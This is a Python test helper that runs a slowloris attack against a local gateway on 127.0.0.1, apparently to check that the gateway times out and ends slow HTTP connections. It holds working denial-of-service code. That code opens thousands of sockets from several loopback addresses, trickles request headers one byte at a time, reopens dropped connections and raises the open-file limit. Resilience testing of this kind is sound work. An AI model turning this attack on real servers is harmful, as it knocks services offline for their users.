"""A slowloris in a process of its own: ``python abuse_slow_heads.py JSON``.

The argument is an object with ``port``, ``connections`` (held at a time), ``interval_s`` (between two
bytes of a head), ``per_second`` (how many are opened), ``reopens`` and ``enough``. Whoever is closed is
opened again then, so that the number stays. A line on standard input, or its end, ends it; it prints one
line of JSON when all are open for the first time, one when ``enough`` have been ended, and another, with
what became of them, at the end.
"""

from __future__ import annotations

import errno
import json
import os
import resource
import select
import socket
import subprocess
import sys
from collections import deque
from collections.abc import Iterator
from contextlib import contextmanager
from time import monotonic
from typing import Any

HEAD = b"GET /v1/models HTTP/1.1\r\nHost: gateway.test\r\nX-Slow: "
SOURCES = 16  # addresses of 127.0.0.0/8: the ports of one would run short
ADDRESS_WITHOUT_PORT = 24  # IP_BIND_ADDRESS_NO_PORT: the port is chosen when the peer is known
STAYS_S = 2.0  # who has been told to go stays for so long
IN_PROGRESS = (errno.EINPROGRESS, errno.EAGAIN)


class Slow:
    """One connection, and how much it has sent."""

    __slots__ = ("began_at", "sent", "sock")

    def __init__(self, sock: socket.socket, now: float) -> None:
        self.sock = sock
        self.began_at = now  # with its head
        self.sent = 0


class SlowHeads:
    """The attack: sends one byte on each connection in turn, and stays until it is thrown out."""

    def __init__(
        self,
        port: int,
        connections: int,
        *,
        interval_s: float,
        per_second: float,
        reopens: bool,
        enough: int = 0,
    ) -> None:
        self.port = port
        self.wanted = connections
        self.interval_s = interval_s
        self.per_second = per_second
        self.reopens = reopens
        self.enough = enough  # ended ones; 0: that is not told
        self.poll = select.epoll()
        self.open: dict[int, Slow] = {}
        self.new: list[Slow] = []  # nothing sent yet
        self.due: deque[tuple[float, Slow]] = deque()  # when the next byte is due
        self.closing: deque[tuple[float, Slow]] = deque()  # ended by the gateway; it stays as long as it can
        self.opened = self.answered = self.most = 0
        self.lived: list[float] = []  # seconds, of each that was ended
        self.says_ready = True

    def run(self) -> None:
        """Go on until something comes on standard input, or its end."""
        self.poll.register(sys.stdin.fileno(), select.EPOLLIN)
        begin = monotonic()
        while True:
            now = monotonic()
            may_open = self.opened < (now - begin) * self.per_second
            if may_open and len(self.open) < self.wanted and (self.reopens or self.opened < self.wanted):
                self._open_some(now, int((now - begin) * self.per_second) - self.opened)
            elif len(self.open) >= self.wanted:
                begin = now - self.opened / self.per_second  # what was not opened is not made up for
            self._send_due(now)
            for fd, _ in self.poll.poll(0.005):
                if fd == sys.stdin.fileno():
                    return
                self._look(fd, monotonic())

    def _open_some(self, now: float, most: int) -> None:
        for _ in range(min(most, self.wanted - len(self.open), 500)):
            sock = socket.socket()
            sock.setblocking(False)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            sock.setsockopt(socket.IPPROTO_IP, ADDRESS_WITHOUT_PORT, 1)
            sock.bind((f"127.1.0.{1 + self.opened % SOURCES}", 0))  # at which nobody listens
            if (problem := sock.connect_ex(("127.0.0.1", self.port))) and problem not in IN_PROGRESS:
                raise OSError(problem, errno.errorcode[problem])
            slow = Slow(sock, now)
            self.open[sock.fileno()] = slow
            self.poll.register(sock.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
            self.new.append(slow)
            self.opened += 1
        self.most = max(self.most, len(self.open))
        if self.says_ready and len(self.open) >= self.wanted:
            self.says_ready = False
            print(json.dumps({"opened": self.opened}), flush=True)

    def _send_due(self, now: float) -> None:
        waiting, self.new = self.new, []
        while self.due and self.due[0][0] <= now:
            waiting.append(self.due.popleft()[1])
        for slow in waiting:
            if slow.sock.fileno() not in self.open:
                continue
            try:
                slow.sock.send(HEAD[slow.sent : slow.sent + 1] or b"x")
            except BlockingIOError:  # not connected yet: the queue of the kernel is full
                self.new.append(slow)
                continue
            except OSError:
                continue  # thrown out: the poll says so too
            slow.sent += 1
            if slow.sent == 1:
                slow.began_at = now
            self.due.append((now + self.interval_s, slow))
        while self.closing and self.closing[0][0] <= now:
            self.closing.popleft()[1].sock.close()

    def _look(self, fd: int, now: float) -> None:
        slow = self.open[fd]
        try:
            data = slow.sock.recv(4096)
            self.answered += data.startswith(b"HTTP/1.1 408 ")
            if data:
                return
        except BlockingIOError:
            return
        except OSError:
            pass
        self.lived.append(now - slow.began_at)
        if len(self.lived) == self.enough:
            print(json.dumps({"ended": self.enough}), flush=True)
        self.poll.unregister(fd)
        del self.open[fd]
        self.closing.append((now + STAYS_S, slow))

    def figures(self) -> dict[str, Any]:
        now = monotonic()
        return {
            "opened": self.opened,
            "open": len(self.open),
            "most": self.most,
            "ended": len(self.lived),
            "answered": self.answered,
            "longest_s": max(self.lived, default=0.0),
            "oldest_s": max((now - slow.began_at for slow in self.open.values()), default=0.0),
        }


class Attack:
    """The running process, as who has started it sees it."""

    def __init__(self, popen: subprocess.Popen[bytes]) -> None:
        self.popen = popen
        self.figures: dict[str, Any] = {}

    def wait_told(self, *what: str) -> None:
        """Wait until ``ended`` (enough of them) and ``opened`` (all at a time) were told, or one of them."""
        assert self.popen.stdout is not None
        missing = set(what)
        while missing:
            line = self.popen.stdout.readline()
            assert line, "the attacker has ended"
            missing -= json.loads(line).keys()

    def end(self) -> dict[str, Any]:
        """End it; returns what became of its connections."""
        assert self.popen.stdin is not None
        assert self.popen.stdout is not None
        self.popen.stdin.close()
        for line in self.popen.stdout:
            self.figures = json.loads(line)
        assert self.popen.wait(30) == 0, "the attacker has failed"
        return self.figures


@contextmanager
def slow_heads(
    port: int,
    connections: int,
    *,
    interval_s: float = 5.0,
    per_second: float = 2000.0,
    reopens: bool = True,
    enough: int = 0,
) -> Iterator[Attack]:
    """A running attack; it is gone at the end.

    Args:
        enough: tell when so many have been ended. The attack has its share of the machine then; without, it
            gets what the others leave.
    """
    options = {
        "enough": enough,
        "port": port,
        "connections": connections,
        "interval_s": interval_s,
        "per_second": per_second,
        "reopens": reopens,
    }
    popen = subprocess.Popen(
        [sys.executable, __file__, json.dumps(options)], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    with popen:
        try:
            yield Attack(popen)
        finally:
            popen.kill()


def main() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = SlowHeads(**json.loads(sys.argv[1]))
    if not attack.enough:
        # An attacker has a machine of its own: here it gets what the others leave.
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attack.run()
    print(json.dumps(attack.figures()), flush=True)


if __name__ == "__main__":
    main()
